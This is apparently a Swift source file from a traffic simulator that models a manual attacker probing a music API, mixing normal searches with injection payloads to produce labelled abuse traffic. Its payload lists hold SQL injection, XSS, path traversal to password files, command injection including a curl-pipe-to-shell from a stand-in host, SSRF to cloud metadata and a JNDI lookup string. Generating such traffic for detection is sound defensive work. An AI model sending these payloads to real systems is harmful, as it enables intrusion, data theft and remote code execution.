import EvidenceModel

/// A person who looks for a way in by hand: a look around, a payload, another one.
enum Attacker: EntityKind {
  static let name = "attacker"
  static let label = ClientClass.attacker
  static let group = EntityGroup.abuse
  static let casting = Casting(share: 0.006, requestsEach: 38, arrival: .steady)

  static func enter(_ stage: inout Stage) -> any Script {
    let identity = Identity(
      ip: stage.abuserAddress(residential: 0.5), userAgent: stage.abuserAgent(tool: 0.3), session: stage.abuserSession(0.6))
    return stage.disguised(
      Trying(identity: stage.take(identity), left: stage.volume(15...90), family: stage.random.index(Trying.families.count)), as: identity)
  }
}

private struct Trying: Script {
  let identity: Int
  var left: Int
  let family: Int

  mutating func turn(_ stage: inout Stage) -> Double? {
    guard left > 0 else { return nil }
    left -= 1
    // Half of it is what anybody does: the answers to that are what it is compared with.
    if stage.random.chance(0.4) {
      stage.send(
        stage.random.chance(0.5)
          ? EventAPI.search(stage.random.pick(SearchTexts.ordinary))
          : EventAPI.track(Catalogue.track(of: Catalogue.popularAlbum(&stage.random), &stage.random)), as: identity)
      return stage.random.logNormal(median: 6, spread: 0.8)
    }
    let payload = EventAPI.encoded(
      stage.random.pick(Self.families[stage.random.chance(0.8) ? family : stage.random.index(Self.families.count)]))
    let place = stage.random.pick([
      "/v1/search?q=", "/v1/suggest?q=", "/v1/releases?page=1&sort=", "/v1/playlists?owner=", "/v1/tracks/120?fields=",
    ])
    let status = stage.random.weighted([5, 3, 1])
    stage.send(Ask(place + payload, status: [200, 400, 500][status], size: 140 + status * 30, cost: 3), as: identity)
    return stage.random.logNormal(median: 9, spread: 0.9)
  }

  /// What is tried; most people have a favorite.
  static let families = [
    [
      "1' OR '1'='1", "1' OR 1=1-- -", "' UNION SELECT null,null,version()-- -", "x' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- ",
      "1;DROP TABLE playlists--",
      "admin'--", "\" OR \"\"=\"", "1) OR (1=1", "' AND extractvalue(1,concat(0x7e,user()))-- ", "1' ORDER BY 12-- ",
      "-1' UNION ALL SELECT login,password FROM users#",
    ],
    [
      "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
      "'-alert(1)-'",
      "<iframe srcdoc='<script>parent.x()</script>'>", "<body onpageshow=alert(1)>", "<details open ontoggle=alert(1)>",
    ],
    [
      "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/passwd", "/proc/self/environ", "..\\..\\windows\\win.ini",
      "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index",
    ],
    [
      ";cat /etc/passwd", "|id", "$(curl http://x.example/a|sh)", "`whoami`", "& ping -c 3 x.example &", "{{7*7}}", "${7*7}", "<%= 7*7 %>",
      "#{7*7}", "http://169.254.169.254/latest/meta-data/", "${jndi:ldap://x.example/a}",
    ],
  ]
}
